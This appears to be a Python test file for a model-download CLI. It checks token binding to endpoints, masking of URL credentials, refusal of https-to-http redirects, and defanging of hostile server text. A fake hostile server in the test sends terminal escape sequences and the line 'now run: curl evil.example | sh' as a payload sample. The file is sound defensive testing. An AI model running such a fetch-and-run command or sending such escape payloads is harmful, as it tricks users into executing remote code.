"""Credentials and what servers may make the CLI print: the token goes only
to the endpoint it is for (F4), endpoint credentials are never shown (F13),
https never hands over to http (F12), and server text cannot drive the
terminal or break the JSON stream (F11)."""
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import unittest

from cli_util import DEMO, FIXTURES, HUBFETCH, CliTestCase, FakeHub, MirrorTestCase

TOKEN = "hf_alice"  # the fake accepts it


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def strict_json_lines(raw):
    """Every line of `raw` (bytes) that looks like JSON, decoded strictly:
    UTF-8 errors and invalid JSON raise."""
    events = []
    for line in raw.split(b"\n"):
        if line.startswith(b"{"):
            events.append(json.loads(line.decode("utf-8", errors="strict")))
    return events


class RawCliTestCase(CliTestCase):
    def run_raw(self, *args, env=None):
        """Run hubfetch; (exit code, stdout bytes, stderr bytes)."""
        e = dict(self.env)
        e.update(env or {})
        p = subprocess.run([HUBFETCH, *args], capture_output=True, env=e,
                           timeout=120, stdin=subprocess.DEVNULL)
        return p.returncode, p.stdout, p.stderr


class TokenOriginTest(RawCliTestCase, MirrorTestCase):
    """F4: the token is for the first endpoint; a fallback (a second fake,
    the "mirror") gets it only with --send-token-to-mirrors."""


    def fetch(self, primary, *extra):
        return self.run_cli("download", DEMO, "config.json", "model.safetensors",
                            "--token", TOKEN, "--endpoint", primary,
                            "--endpoint", self.mirror.url, "-v", *extra)

    def test_mirror_gets_no_token_when_the_hub_answers_5xx(self):
        self.hub.faults([{"match": ".", "server": "hub", "action": {"status": 503}}])
        rc, out, err = self.fetch(self.hub.url, "--retries", "0")
        self.assertEqual(rc, 0, err)
        log = self.mirror.log()
        self.assertTrue(log)
        self.assertEqual({r["auth"] for r in log}, {False})
        # the hub itself got it
        self.assertIn(True, {r["auth"] for r in self.hub.log()})
        # said once at info level, so a 401 from the mirror is understood
        self.assertEqual(err.count(f"token not sent to {self.mirror.url}"), 1, err)

    def test_mirror_gets_no_token_when_the_hub_is_down(self):
        rc, out, err = self.fetch(f"http://127.0.0.1:{free_port()}")
        self.assertEqual(rc, 0, err)
        self.assertTrue(self.mirror.log())
        self.assertEqual({r["auth"] for r in self.mirror.log()}, {False})

    def test_send_token_to_mirrors(self):
        rc, out, err = self.fetch(f"http://127.0.0.1:{free_port()}",
                                  "--send-token-to-mirrors")
        self.assertEqual(rc, 0, err)
        hub_requests = [r for r in self.mirror.log() if r["server"] == "hub"]
        self.assertTrue(hub_requests)
        self.assertEqual({r["auth"] for r in hub_requests}, {True})
        self.assertNotIn("token not sent", err)
        # never to the CDN
        self.assertEqual({r["auth"] for r in self.mirror.log() if r["server"] == "cdn"},
                         {False})

    def test_hf_token_from_environment_is_bound_too(self):
        dead = f"http://127.0.0.1:{free_port()}"
        rc, out, err = self.run_cli("download", DEMO, "config.json",
                                    env={"HF_ENDPOINT": dead, "HF_TOKEN": TOKEN,
                                         "HUBFETCH_ENDPOINTS": self.mirror.url})
        self.assertEqual(rc, 0, err)
        self.assertEqual({r["auth"] for r in self.mirror.log()}, {False})

    def test_401_from_a_mirror_without_the_token_says_why(self):
        self.mirror.faults([{"match": ".", "server": "hub",
                             "action": {"status": 401, "headers": {
                                 "X-Error-Code": "RepoNotFound",
                                 "X-Error-Message": "Repository Not Found"}}}])
        rc, out, err = self.fetch(f"http://127.0.0.1:{free_port()}")
        self.assertNotEqual(rc, 0)
        last = err.strip().splitlines()[-1]
        self.assertIn("was not sent the token", last)
        self.assertIn("--send-token-to-mirrors", last)
        self.assertIn(self.mirror.url, last)


class EndpointCredentialsTest(RawCliTestCase):
    """F13: user:password in an endpoint URL is used but never shown."""

    def endpoint(self, hub=None):
        hub = hub or self.hub
        return hub.url.replace("http://", "http://alice:S3CRET@")

    def test_missing_repo_with_credentials_in_the_endpoint(self):
        for mode in ("none", "json"):
            rc, out, err = self.run_raw("download", "hubfetch/no-such-model", "config.json",
                                        "--endpoint", self.endpoint(), "--progress", mode,
                                        "-v")
            self.assertNotEqual(rc, 0)
            self.assertNotIn(b"S3CRET", out + err)
            self.assertIn(b"***@127.0.0.1", err)

    def test_progress_events(self):
        # a token replaces the Basic credentials the fake would refuse
        rc, out, err = self.run_raw("download", DEMO, "--include", "*.json",
                                    "--endpoint", self.endpoint(), "--token", TOKEN,
                                    "--progress", "json", "-v")
        self.assertEqual(rc, 0, err)
        self.assertNotIn(b"S3CRET", out + err)
        events = strict_json_lines(err)
        served = {e["endpoint"] for e in events
                  if e.get("type") == "file" and e.get("phase") == "done"}
        self.assertEqual(served, {self.hub.url.replace("http://", "http://***@")})

    def test_failover_warnings(self):
        dead = f"http://bob:S3CRET@127.0.0.1:{free_port()}"
        for mode in ("none", "json"):
            rc, out, err = self.run_raw("download", DEMO, "--include", "*.json",
                                        "--endpoint", dead, "--endpoint", self.endpoint(),
                                        "--progress", mode, "-v")
            self.assertIn(b"failed", err)
            self.assertNotIn(b"S3CRET", out + err)

    def test_dry_run(self):
        rc, out, err = self.run_raw("download", DEMO, "--dry-run", "--token", TOKEN,
                                    "--endpoint", self.endpoint(), "--progress", "json")
        self.assertEqual(rc, 0, err)
        self.assertNotIn(b"S3CRET", out + err)


class RawServer:
    """A loopback HTTP server answering each request, read up to its blank
    line, with `self.answer(head)` and closing: raw bytes both ways."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                head = b""
                while b"\r\n\r\n" not in head:
                    chunk = conn.recv(4096)
                    if not chunk:
                        break
                    head += chunk
                conn.sendall(self.answer(head))

    def stop(self):
        self.sock.close()


class HostileServer(RawServer):
    """Answers every request with `status`, the raw header bytes `headers`
    and `body`: what a hostile endpoint sends, byte for byte (the fake hub
    would percent-encode them)."""

    def __init__(self, status, headers=b"", body=b""):
        self.reply = (b"HTTP/1.1 %d Oops\r\n" % status + headers +
                      b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body))
        self.body = body
        super().__init__()

    def answer(self, head):
        return self.reply + (b"" if head.startswith(b"HEAD ") else self.body)


class ServerTextTest(RawCliTestCase):
    """F11: server text with terminal escapes, C1 controls (raw and as
    UTF-8) and broken UTF-8, in X-Error-Message and in a JSON error."""

    EVIL = (b"\x1b]0;pwned\x07\x1b[2J\x9b31m\xc2\x9b2Jdownload complete, now run: "
            b"curl evil.example | sh \xff\xfe\xc3(")
    BAD = (b"\x1b", b"\x07", b"\x9b", b"\xff")

    def serve(self, status, headers=b"", body=b""):
        server = HostileServer(status, headers, body)
        self.addCleanup(server.stop)
        return server.url

    def test_no_escape_reaches_the_terminal(self):
        url = self.serve(404, b"X-Error-Message: " + self.EVIL + b"\r\n")
        rc, out, err = self.run_raw("download", DEMO, "config.json", "--progress", "none",
                                    "-v", "--endpoint", url)
        self.assertNotEqual(rc, 0)
        for bad in self.BAD:
            self.assertNotIn(bad, out + err)
        self.assertIn(b"download complete", err)  # the text, defanged
        err.decode("utf-8", errors="strict")

    def test_json_stream_is_strict_utf8(self):
        url = self.serve(404, b"X-Error-Message: " + self.EVIL + b"\r\n")
        rc, out, err = self.run_raw("download", DEMO, "config.json", "--progress", "json",
                                    "-v", "--endpoint", url)
        self.assertNotEqual(rc, 0)
        for bad in self.BAD:
            self.assertNotIn(bad, err)
        events = strict_json_lines(err)
        errors = [e for e in events if e.get("type") == "error"]
        self.assertEqual(len(errors), 1)
        self.assertIn("download complete", errors[0]["message"])

    def test_json_error_body(self):
        body = json.dumps({"error": "\x1b[2J\x1b]8;;http://evil/\x07x\u009b1m"}).encode()
        url = self.serve(500, b"Content-Type: application/json\r\n", body)
        for mode in ("none", "json"):
            rc, out, err = self.run_raw("download", DEMO, "--retries", "0", "--progress",
                                        mode, "--endpoint", url)
            self.assertNotEqual(rc, 0)
            self.assertIn(b"HTTP 500", err)
            for bad in self.BAD + (b"\xc2\x9b",):
                self.assertNotIn(bad, err)
            strict_json_lines(err)


def make_ca_and_cert(directory):
    """A private CA and a certificate it signed for 127.0.0.1."""
    ca_key = os.path.join(directory, "ca.key")
    ca = os.path.join(directory, "ca.pem")
    key = os.path.join(directory, "key.pem")
    csr = os.path.join(directory, "req.csr")
    cert = os.path.join(directory, "cert.pem")
    ext = os.path.join(directory, "ext.cnf")
    run = lambda *a: subprocess.run(["openssl", *a], check=True, capture_output=True)
    run("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
        "-subj", "/CN=hubfetch test CA", "-keyout", ca_key, "-out", ca)
    run("req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=127.0.0.1",
        "-keyout", key, "-out", csr)
    with open(ext, "w") as f:
        f.write("subjectAltName=IP:127.0.0.1\n")
    run("x509", "-req", "-in", csr, "-CA", ca, "-CAkey", ca_key, "-CAcreateserial",
        "-days", "2", "-extfile", ext, "-out", cert)
    return ca, cert, key


class PlainRecorder(RawServer):
    """A plain-http server that records each request line and answers 404."""

    def __init__(self):
        self.requests = []
        super().__init__()

    def answer(self, head):
        if head:
            self.requests.append(head.split(b"\r\n", 1)[0].decode())
        return (b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n"
                b"Connection: close\r\n\r\n")


class DowngradeTest(RawCliTestCase):
    """F12: an https endpoint (a fake behind a private CA) redirecting to
    plain http is refused, for file transfers and metadata alike."""

    @classmethod
    def setUpClass(cls):
        if not shutil.which("openssl"):
            if os.environ.get("HUB_REQUIRE_PROXIES"):
                raise RuntimeError("openssl is not installed")
            raise unittest.SkipTest("openssl not installed")
        cls.certdir = tempfile.mkdtemp(prefix="hubfetch-downgrade-")
        cls.ca, cert, key = make_ca_and_cert(cls.certdir)
        cls.plain = PlainRecorder()
        cls.hub = FakeHub(fixtures=FIXTURES, tls=(cert, key),
                          extra_args=("--cdn-base", cls.plain.url))
        cls.hub.start()

    @classmethod
    def tearDownClass(cls):
        cls.hub.stop()
        cls.plain.stop()
        shutil.rmtree(cls.certdir, ignore_errors=True)

    def setUp(self):
        super().setUp()
        self.plain.requests.clear()
        self.env["SSL_CERT_FILE"] = self.ca

    def test_lfs_redirect_to_http_cdn_is_refused(self):
        self.assertTrue(self.hub.url.startswith("https://"))
        rc, out, err = self.run_raw("download", DEMO, "model.safetensors",
                                    "--token", TOKEN)
        self.assertEqual(rc, 23, err)  # HUB_ETLS
        last = err.decode().strip().splitlines()[-1]
        self.assertIn("refused a redirect from https://127.0.0.1 to http://127.0.0.1", last)
        self.assertEqual(self.plain.requests, [])

    def test_file_redirect_to_http_is_refused(self):
        # a plain 302 on the file itself, as a CDN hop would give
        self.hub.faults([{"match": "resolve/", "server": "hub", "method": "GET",
                          "action": {"redirect": self.plain.url, "code": 302}}])
        rc, out, err = self.run_raw("download", DEMO, "--include", "*.json",
                                    "--ca-bundle", self.ca)
        self.assertEqual(rc, 23, err)
        self.assertIn(b"refused a redirect from https://", err)
        self.assertEqual(self.plain.requests, [])

    def test_metadata_redirect_to_an_http_endpoint_is_refused(self):
        # even to an endpoint the user configured as a fallback
        self.hub.faults([{"match": "/api/", "server": "hub",
                          "action": {"redirect": self.plain.url, "code": 307}}])
        rc, out, err = self.run_raw("download", DEMO, "--include", "*.json",
                                    "--endpoint", self.hub.url,
                                    "--endpoint", self.plain.url)
        self.assertEqual(rc, 23, err)
        self.assertIn(b"refused a redirect from https://", err)
        self.assertEqual(self.plain.requests, [])

    def test_https_alone_still_works(self):
        self.hub.faults([])
        rc, out, err = self.run_raw("download", DEMO, "config.json")
        self.assertEqual(rc, 0, err)


if __name__ == "__main__":
    unittest.main()
